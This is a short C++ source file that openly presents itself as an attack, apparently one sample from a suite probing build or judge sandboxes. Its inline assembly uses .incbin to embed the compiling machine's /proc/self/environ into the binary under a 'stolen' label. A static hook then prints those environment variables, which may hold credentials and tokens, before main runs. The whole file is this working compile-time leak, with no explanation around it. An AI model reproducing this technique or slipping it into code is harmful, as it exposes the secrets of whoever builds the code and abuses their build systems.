#include "attack.hpp"

#include <cstdio>

asm(".pushsection .rodata\n"
    "stolen_begin: .incbin \"/proc/self/environ\"\n"
    "stolen_end: .byte 0\n"
    ".popsection\n");
extern "C" const char stolen_begin[], stolen_end[];

namespace {
const attack::BeforeMain now([] {
  std::fwrite(stolen_begin, 1, static_cast<std::size_t>(stolen_end - stolen_begin), stdout);
});
}  // namespace
